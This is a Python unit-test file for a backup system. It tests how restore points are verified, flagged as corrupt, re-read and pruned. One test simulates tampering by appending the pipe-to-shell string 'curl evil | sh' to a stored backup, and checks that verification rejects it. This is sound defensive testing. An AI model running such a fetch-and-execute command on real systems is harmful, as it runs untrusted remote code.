"""The verification of points, new and older, on a store in memory."""

import io
import json
from contextlib import nullcontext
from datetime import timedelta
from typing import Any

import pytest

from platform_ops.backups.errors import Corrupt, GivenUp, NotProven
from platform_ops.backups.kinds import directory_packs
from platform_ops.backups.points import DAMAGED, MANIFEST, VERIFIED, BadManifest, point_id
from platform_ops.backups.steps import COPY, CopySource, PrunePoints, VerifyPoint
from platform_ops.backups.store import Points
from platform_ops.common.errors import AuthenticationFailed, NotFound
from platform_ops.systems.object_store.errors import ObjectNotFound
from tests.unit.backups.installation import NOW, Steps


def test_a_verification_leaves_its_mark(steps: Steps) -> None:
    point = steps.back_up()
    noted = json.loads(steps.store.objects[f"tree/{point}/verified.json"])
    assert noted["manifest_sha256"] == steps.told[-1]["facts"]["manifest_sha256"]


@pytest.mark.parametrize(
    ("name", "said"),
    [("tree.tar.zst.age", r"tree\.tar\.zst\.age"), ("RESTORE.md", r"RESTORE\.md is not the text")],
)
def test_a_spoilt_point_gets_no_mark(steps: Steps, name: str, said: str) -> None:
    steps.run(CopySource, source="tree")
    key = next(key for key in steps.store.objects if key.endswith(name))
    steps.store.objects[key] += b"curl evil | sh"
    with pytest.raises(Corrupt, match=said):
        steps.run(VerifyPoint, source="tree")
    assert not any(key.endswith("verified.json") for key in steps.store.objects)


def test_a_byte_that_is_wrong_on_its_way_only_is_no_damage(steps: Steps, monkeypatch: pytest.MonkeyPatch) -> None:
    steps.run(CopySource, source="tree")
    stream, wrong = steps.store.stream, [True]

    def once_wrong(bucket: str, key: str) -> Any:
        if wrong and key.endswith("index.jsonl.zst.age"):
            wrong.clear()
            body = steps.store.objects[key]
            return nullcontext(io.BytesIO(body[:-1] + bytes([body[-1] ^ 1])))
        return stream(bucket, key)

    monkeypatch.setattr(steps.store, "stream", once_wrong)
    steps.run(VerifyPoint, source="tree")
    assert not wrong
    assert f"tree/{point_id(NOW, 'r1')}/verified.json" in steps.store.objects


@pytest.mark.parametrize("how", ["wrong", "missing"])
def test_a_read_that_fails_once_takes_the_mark_of_no_older_point(
    steps: Steps, monkeypatch: pytest.MonkeyPatch, how: str
) -> None:
    # One pack that both points need, and one of each's own.
    monkeypatch.setattr(directory_packs, "SETTLES_NS", 0)
    (steps.tree / "stays").write_bytes(bytes(50_000))
    steps.back_up(at=NOW - timedelta(days=10), run_id="first")
    (steps.tree / "changes").write_text("one")
    old = steps.back_up(at=NOW - timedelta(days=9), run_id="r0")
    (steps.tree / "changes").write_text("another")
    new = steps.back_up()
    read, stream, asked = steps.store.read, steps.store.stream, list[str]()
    wrong_at = 0

    def on_the_way(key: str, body: bytes) -> bytes | None:
        asked.append(key)
        if len(asked) != wrong_at:
            return body
        return None if how == "missing" else body[:-9] + bytes([body[-9] ^ 1]) + body[-8:]

    def once_wrong(bucket: str, key: str) -> Any:
        with stream(bucket, key) as body:
            arrived = on_the_way(key, body.read())
        if arrived is None:
            raise ObjectNotFound(key)
        return nullcontext(io.BytesIO(arrived))

    monkeypatch.setattr(steps.store, "stream", once_wrong)
    monkeypatch.setattr(steps.store, "read", lambda bucket, key: on_the_way(key, read(bucket, key) or b""))
    verified = set[str]()
    while wrong_at <= len(asked):
        wrong_at += 1
        asked.clear()
        steps.age(old, days=9)
        try:
            steps.run(VerifyPoint, source="tree")
        except (Corrupt, NotFound, NotProven, BadManifest):
            # Of the newest point not everything is read twice: then it is not verified yet.
            assert new in asked[wrong_at - 1]
        else:
            verified.add(asked[wrong_at - 1] if wrong_at <= len(asked) else "")
        assert f"tree/{old}/verified.json" in steps.store.objects
        assert not any(key.endswith(DAMAGED) for key in steps.store.objects)
    assert {f"tree/{old}/{MANIFEST}", f"tree/{old}/verified.json"} <= verified
    assert any(old in key and key.endswith("contents.jsonl.zst") for key in verified)
    # What both points need is read with one of them only.
    contents = [key for key in asked if "/contents/" in key]
    assert sorted(contents) == [key for key in sorted(steps.store.objects) if "/contents/" in key]


def test_a_manifest_that_changed_since_the_copy_is_not_verified(steps: Steps) -> None:
    steps.run(CopySource, source="tree", task_id=COPY)
    key = f"tree/{point_id(NOW, 'r1')}/{MANIFEST}"
    steps.store.objects[key] = steps.store.objects[key].replace(b'"files":4', b'"files":5')
    with pytest.raises(NotProven, match="not the one that copy_source wrote"):
        steps.run(VerifyPoint, source="tree")


def test_a_manifest_that_changed_since_it_was_verified_is_not_verified_again(steps: Steps) -> None:
    key = f"tree/{steps.back_up()}/{MANIFEST}"
    steps.store.objects[key] = steps.store.objects[key].replace(b'"files":4', b'"files":5')
    with pytest.raises(NotProven, match="not the one that copy_source wrote"):
        steps.run(VerifyPoint, source="tree")


def test_of_what_a_listing_lacks_the_object_itself_is_asked(steps: Steps, monkeypatch: pytest.MonkeyPatch) -> None:
    steps.run(CopySource, source="tree")
    sizes = steps.store.sizes
    monkeypatch.setattr(steps.store, "sizes", lambda *at: (one for one in sizes(*at) if "/contents/" not in one[0]))
    steps.run(VerifyPoint, source="tree")
    assert f"tree/{point_id(NOW, 'r1')}/verified.json" in steps.store.objects


def test_a_point_that_a_newer_run_deletes_while_it_is_verified_leaves_no_note(
    steps: Steps, monkeypatch: pytest.MonkeyPatch
) -> None:
    point = point_id(NOW, "r1")
    steps.run(CopySource, source="tree")
    note, points = Points.note, Points(steps.store, "backups", "tree")

    def pruned_first(own: Points, at: str, name: str, content: Any) -> None:
        if (at, name) == (point, VERIFIED):
            points.unmake(point)
        note(own, at, name, content)

    monkeypatch.setattr(Points, "note", pruned_first)
    with pytest.raises(GivenUp, match="deleted while it was verified"):
        steps.run(VerifyPoint, source="tree")
    monkeypatch.setattr(Points, "note", note)
    assert points.lost() == []
    steps.back_up(at=NOW + timedelta(hours=1), run_id="r2")


def test_a_note_written_while_a_point_is_deleted_goes_with_it(steps: Steps, monkeypatch: pytest.MonkeyPatch) -> None:
    point, points = steps.back_up(), Points(steps.store, "backups", "tree")
    remove = steps.store.remove

    def verified_meanwhile(bucket: str, key: str) -> None:
        if key.endswith(MANIFEST):
            points.verify(point, {"manifest_sha256": ""})
        remove(bucket, key)

    monkeypatch.setattr(steps.store, "remove", verified_meanwhile)
    points.unmake(point)
    assert points.lost() == []


@pytest.mark.parametrize("moment", ["tree.tar.zst.age", MANIFEST])
def test_an_older_point_that_another_run_prunes_meanwhile_is_no_trouble(
    steps: Steps, monkeypatch: pytest.MonkeyPatch, moment: str
) -> None:
    old = steps.back_up(at=NOW - timedelta(days=9), run_id="r0")
    steps.age(old, days=9)
    read, stream, points = steps.store.read, steps.store.stream, Points(steps.store, "backups", "tree")

    def pruning(call: Any) -> Any:
        def asked(bucket: str, key: str) -> Any:
            if old in key and key.endswith(moment):
                points.unmake(old)
                points.clear(old)
            return call(bucket, key)

        return asked

    monkeypatch.setattr(steps.store, "read", pruning(read))
    monkeypatch.setattr(steps.store, "stream", pruning(stream))
    steps.back_up()
    assert steps.told[-1]["facts"]["again"] == []
    assert points.lost() == []
    assert not any(f"/{old}/" in key for key in steps.store.objects)


def test_older_points_are_read_again_in_turn(steps: Steps) -> None:
    old = steps.back_up(at=NOW - timedelta(days=9), run_id="r0")
    steps.age(old, days=9)
    steps.back_up()
    assert steps.told[-1]["facts"]["again"] == [old]
    steps.back_up(at=NOW + timedelta(hours=1), run_id="r2")
    assert steps.told[-1]["facts"]["again"] == []


def test_an_older_point_that_is_spoilt_is_found_named_and_no_longer_verified(steps: Steps) -> None:
    old = steps.back_up(at=NOW - timedelta(days=9), run_id="r0")
    steps.age(old, days=9)
    key = next(key for key in steps.store.objects if old in key and key.endswith("tree.tar.zst.age"))
    steps.store.objects[key] += b"x"
    with pytest.raises(Corrupt, match=old):
        steps.back_up()
    assert f"tree/{old}/verified.json" not in steps.store.objects
    assert f"tree/{point_id(NOW, 'r1')}/verified.json" in steps.store.objects


@pytest.mark.parametrize("how", ["has other bytes", "bytes instead of", "is missing"])
def test_what_only_an_older_point_needs_is_read_again_too(steps: Steps, how: str) -> None:
    old = steps.back_up(at=NOW - timedelta(days=9), run_id="r0")
    steps.age(old, days=9)
    key = next(key for key in steps.store.objects if key.startswith("tree/contents/") and old in key)
    text = steps.tree / "folder" / "text"
    text.write_text("other\n")
    body = steps.store.objects.pop(key)
    if how != "is missing":
        steps.store.objects[key] = body[:-1] + (bytes([body[-1] ^ 1]) if how == "has other bytes" else b"")
    with pytest.raises(Corrupt, match=f"{key} .*{how}"):
        steps.back_up()
    assert f"tree/{old}/verified.json" not in steps.store.objects
    assert f"tree/{point_id(NOW, 'r1')}/verified.json" in steps.store.objects


def test_a_spoilt_point_stays_for_people_until_its_time_is_over(steps: Steps) -> None:
    old = steps.back_up(at=NOW - timedelta(days=9), run_id="r0")
    steps.age(old, days=9)
    steps.store.objects[next(key for key in steps.store.objects if old in key and key.endswith(".tar.zst.age"))] += b"x"
    with pytest.raises(Corrupt):
        steps.back_up()
    report = steps.run(PrunePoints, source="tree")
    assert "somebody has to look" in report["facts"]["kept"][old]
    steps.enter("tree", "daily: 30", "hourly: 1, daily: 1")
    steps.back_up(at=NOW + timedelta(days=1), run_id="r2")
    assert old in steps.run(PrunePoints, source="tree")["facts"]["deleted"]


@pytest.mark.parametrize("empty", [True, False])
def test_a_verified_point_that_lost_its_manifest_is_named_and_left_to_people(steps: Steps, empty: bool) -> None:
    steps.enter("tree", "daily: 30", "daily: 1")
    old = steps.back_up(at=NOW - timedelta(days=1), run_id="r1")
    key = f"tree/{old}/manifest.json"
    if empty:
        steps.store.objects[key] = b""
    else:
        del steps.store.objects[key]
    before = {name for name in steps.store.objects if f"/{old}/" in name and "/verified" not in name}
    steps.run(CopySource, source="tree")
    with pytest.raises(Corrupt, match=key) as told:
        steps.run(VerifyPoint, source="tree")
    assert told.value.facts["object"] == key
    steps.run(VerifyPoint, source="tree")
    assert old in steps.run(PrunePoints, source="tree")["summary"]
    assert before <= steps.store.objects.keys()


def test_a_store_that_refuses_takes_the_mark_of_no_older_point(steps: Steps, monkeypatch: pytest.MonkeyPatch) -> None:
    old = steps.back_up(at=NOW - timedelta(days=9), run_id="r0")
    steps.age(old, days=9)
    real = steps.store.stream

    def refusing(bucket: str, key: str) -> Any:
        if old in key:
            raise AuthenticationFailed("The object store answered AccessDenied.")
        return real(bucket, key)

    monkeypatch.setattr(steps.store, "stream", refusing)
    with pytest.raises(AuthenticationFailed):
        steps.back_up()
    assert f"tree/{old}/verified.json" in steps.store.objects


@pytest.mark.parametrize("note", [b"\xff no note", b"[]", b"{}", b'{"at": 5}'])
def test_a_note_that_can_not_be_read_verifies_nothing(steps: Steps, note: bytes) -> None:
    old = steps.back_up(at=NOW - timedelta(days=9), run_id="r0")
    steps.store.objects[f"tree/{old}/verified.json"] = note
    with pytest.raises(NotProven, match=old):
        steps.back_up()
    assert f"tree/{old}/verified.json" not in steps.store.objects
